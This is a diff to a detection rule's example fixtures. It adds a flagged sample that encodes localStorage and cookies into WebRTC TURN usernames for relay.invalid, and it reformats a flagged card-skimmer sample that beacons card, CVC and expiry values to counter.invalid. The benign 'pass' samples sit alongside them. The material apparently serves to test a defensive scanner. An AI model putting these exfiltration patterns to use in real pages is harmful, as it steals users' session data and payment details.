@@ -78,14 +78,12 @@ export default defineRule({
   examples: {
     flags: [
       {
+        title: 'what a page keeps leaves as the login of a relay',
+        code: `const text = btoa(JSON.stringify(localStorage) + document.cookie).match(/.{1,200}/g);\nconst iceServers = text.map((username, at) => ({ urls: 'turn:relay.invalid:' + (3478 + at), username, credential: 'x' }));\nnew RTCPeerConnection({ iceServers, iceTransportPolicy: 'relay' }).createDataChannel('rtt');`,
+      },
+      {
         title: 'fields that are called like a card’s leave by a picture, once a form was checked',
-        code: `export function check(form) {
-  form.addEventListener('submit', () => {
-    const all = {};
-    [].forEach.call(form.elements, one => { if (/card|cvc|expir/i.test(one.name)) all[one.name] = one.value; });
-    new Image().src = 'https://counter.invalid/c.gif?d=' + encodeURIComponent(JSON.stringify(all));
-  });
-}`,
+        code: `export function check(form) {\n  form.addEventListener('submit', () => {\n    const all = {};\n    [].forEach.call(form.elements, one => { if (/card|cvc|expir/i.test(one.name)) all[one.name] = one.value; });\n    new Image().src = 'https://counter.invalid/c.gif?d=' + encodeURIComponent(JSON.stringify(all));\n  });\n}`,
       },
       {
         title: 'a form to pay with sends what is in it to a second place',
@@ -130,14 +128,12 @@ export default defineRule({
     ],
     passes: [
       {
+        title: 'a call is made by a relay that the page names',
+        code: `export const call = ({ urls, username, credential }) => new RTCPeerConnection({ iceServers: [{ urls, username, credential }] }).createDataChannel('talk');`,
+      },
+      {
         title: 'a form is checked, and a picture counts that it was',
-        code: `export function check(form) {
-  form.addEventListener('submit', () => {
-    const wrong = [].filter.call(form.elements, one => /card|cvc/i.test(one.name) && !one.value);
-    wrong.forEach(one => one.focus());
-    new Image().src = 'https://counter.invalid/c.gif?wrong=' + (wrong.length > 0 ? 'yes' : 'no');
-  });
-}`,
+        code: `export function check(form) {\n  form.addEventListener('submit', () => {\n    const wrong = [].filter.call(form.elements, one => /card|cvc/i.test(one.name) && !one.value);\n    wrong.forEach(one => one.focus());\n    new Image().src = 'https://counter.invalid/c.gif?wrong=' + (wrong.length > 0 ? 'yes' : 'no');\n  });\n}`,
       },
       {
         title: 'the fields of all forms are kept in the page',
